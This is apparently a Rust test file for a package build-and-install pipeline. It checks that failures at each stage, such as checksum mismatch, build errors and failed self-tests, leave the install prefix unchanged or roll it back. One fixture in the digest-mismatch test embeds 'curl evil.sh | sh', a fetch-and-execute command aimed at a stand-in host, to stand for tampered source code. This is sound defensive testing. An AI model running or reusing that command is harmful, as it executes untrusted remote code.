//! Runs that halt in `Failed(stage, kind)` and must leave the prefix alone.

use kiln_lib::ErrorKind;
use kiln_lib::pipeline::{CancelHandle, Stage};
use kiln_lib::recipe::Artifact;

use super::common::*;

/// Prefix with a file from an earlier install.
fn seed_prefix(env: &TestEnv) {
  std::fs::create_dir_all(env.prefix().join("bin")).unwrap();
  std::fs::write(env.prefix().join("bin/ocli"), "previous install\n").unwrap();
}

#[tokio::test]
async fn digest_mismatch_halts_at_verifying() {
  let mut env = TestEnv::new().await;
  seed_prefix(&env);
  let before = listing(&env.prefix());

  let genuine = ocli_source();
  let tampered = source_archive(BUILD_SH, &tool_script("OCLI v0.2.0; curl evil.sh | sh"));
  let _mock = env.serve(&tampered).await;

  let result = env
    .pipeline()
    .execute(&env.recipe(sha256(&genuine)), CancelHandle::new())
    .await;

  assert!(result.failed_at(Stage::Verifying));
  assert_eq!(result.error_kind(), Some(ErrorKind::IntegrityMismatch));
  let message = &result.error.as_ref().unwrap().message;
  assert!(message.contains(&sha256(&genuine).to_string()));
  assert!(message.contains(&sha256(&tampered).to_string()));

  assert!(result.build.is_none());
  assert_eq!(listing(&env.prefix()), before);
  assert_eq!(
    std::fs::read_to_string(env.prefix().join("bin/ocli")).unwrap(),
    "previous install\n"
  );
  // Nothing unverified reaches the cache or a work directory.
  assert!(listing(&env.config().downloads_dir()).is_empty());
  assert!(listing(&env.config().work_dir).is_empty());
}

#[tokio::test]
async fn failed_verification_retried_with_corrected_bytes_succeeds() {
  let mut env = TestEnv::new().await;
  let genuine = ocli_source();
  let recipe = env.recipe(sha256(&genuine));

  let bad = env.serve(b"truncated download").await;
  let first = env.pipeline().execute(&recipe, CancelHandle::new()).await;
  assert!(first.failed_at(Stage::Verifying));
  bad.remove_async().await;

  let _good = env.serve(&genuine).await;
  let second = env.pipeline().execute(&recipe, CancelHandle::new()).await;

  assert!(second.success, "pipeline failed: {:?}", second.error);
  assert_eq!(second.stage_reached, Stage::Succeeded);
}

#[tokio::test]
async fn build_failure_installs_nothing() {
  let mut env = TestEnv::new().await;
  let source = source_archive(
    "#!/bin/sh\necho 'compiling ocli'\necho 'error[E0425]: cannot find value' >&2\nexit 101\n",
    &tool_script("OCLI v0.2.0"),
  );
  let _mock = env.serve(&source).await;

  let result = env
    .pipeline()
    .execute(&env.recipe(sha256(&source)), CancelHandle::new())
    .await;

  assert!(result.failed_at(Stage::Building));
  assert_eq!(result.error_kind(), Some(ErrorKind::BuildNonZeroExit));
  let message = &result.error.as_ref().unwrap().message;
  assert!(message.contains("101"));
  assert!(message.contains("cannot find value"));
  assert!(!env.prefix().exists());
}

#[tokio::test]
async fn missing_build_program_fails_build() {
  let mut env = TestEnv::new().await;
  let source = ocli_source();
  let _mock = env.serve(&source).await;
  let mut recipe = env.recipe(sha256(&source));
  recipe.build_command = vec!["cargo-that-does-not-exist".to_string(), "build".to_string()];

  let result = env.pipeline().execute(&recipe, CancelHandle::new()).await;

  assert!(result.failed_at(Stage::Building));
  assert_eq!(result.error_kind(), Some(ErrorKind::BuildFailed));
}

#[tokio::test]
async fn missing_artifact_leaves_prefix_untouched() {
  let mut env = TestEnv::new().await;
  seed_prefix(&env);
  let before = listing(&env.prefix());
  let source = ocli_source();
  let _mock = env.serve(&source).await;
  let mut recipe = env.recipe(sha256(&source));
  recipe.artifact_paths.push(Artifact::executable("target/release/ocli-server"));

  let result = env.pipeline().execute(&recipe, CancelHandle::new()).await;

  assert!(result.failed_at(Stage::Installing));
  assert_eq!(result.error_kind(), Some(ErrorKind::MissingArtifact));
  assert_eq!(listing(&env.prefix()), before);
}

#[tokio::test]
async fn directory_in_the_way_is_a_path_conflict() {
  let mut env = TestEnv::new().await;
  std::fs::create_dir_all(env.prefix().join("share/ocli/README.md")).unwrap();
  let source = ocli_source();
  let _mock = env.serve(&source).await;

  let result = env
    .pipeline()
    .execute(&env.recipe(sha256(&source)), CancelHandle::new())
    .await;

  assert!(result.failed_at(Stage::Installing));
  assert_eq!(result.error_kind(), Some(ErrorKind::PathConflict));
  assert!(!env.prefix().join("bin").exists());
}

#[tokio::test]
async fn pattern_mismatch_rolls_back_install() {
  let mut env = TestEnv::new().await;
  seed_prefix(&env);
  let before = listing(&env.prefix());
  let source = source_archive(BUILD_SH, &tool_script("OCLI v0.1.9"));
  let _mock = env.serve(&source).await;

  let result = env
    .pipeline()
    .execute(&env.recipe(sha256(&source)), CancelHandle::new())
    .await;

  assert!(result.failed_at(Stage::Testing));
  assert_eq!(result.error_kind(), Some(ErrorKind::PatternMismatch));
  assert!(result.error.as_ref().unwrap().message.contains("OCLI v0.1.9"));
  assert!(result.installed.is_empty());

  assert_eq!(listing(&env.prefix()), before);
  assert_eq!(
    std::fs::read_to_string(env.prefix().join("bin/ocli")).unwrap(),
    "previous install\n"
  );
}

#[tokio::test]
async fn failing_self_test_into_fresh_prefix_removes_it() {
  let mut env = TestEnv::new().await;
  let source = source_archive(BUILD_SH, "#!/bin/sh\necho 'segfault' >&2\nexit 139\n");
  let _mock = env.serve(&source).await;

  let result = env
    .pipeline()
    .execute(&env.recipe(sha256(&source)), CancelHandle::new())
    .await;

  assert!(result.failed_at(Stage::Testing));
  assert_eq!(result.error_kind(), Some(ErrorKind::TestNonZeroExit));
  assert!(!env.prefix().exists());
}

#[tokio::test]
async fn missing_source_fails_fetch() {
  let mut env = TestEnv::new().await;
  let _mock = env
    .server
    .mock("GET", "/ocli-0.2.0.tar.gz")
    .with_status(404)
    .create_async()
    .await;

  let result = env
    .pipeline()
    .execute(&env.recipe(sha256(b"anything")), CancelHandle::new())
    .await;

  assert!(result.failed_at(Stage::Fetching));
  assert_eq!(result.error_kind(), Some(ErrorKind::FetchNotFound));
}

#[tokio::test]
async fn relative_prefix_rejected_before_fetch() {
  let mut env = TestEnv::new().await;
  let mock = env.server.mock("GET", "/ocli-0.2.0.tar.gz").expect(0).create_async().await;
  let mut recipe = env.recipe(sha256(b"anything"));
  recipe.install_prefix = "relative/prefix".into();

  let result = env.pipeline().execute(&recipe, CancelHandle::new()).await;

  assert!(result.failed_at(Stage::Pending));
  assert_eq!(result.error_kind(), Some(ErrorKind::InvalidRecipe));
  mock.assert_async().await;
}
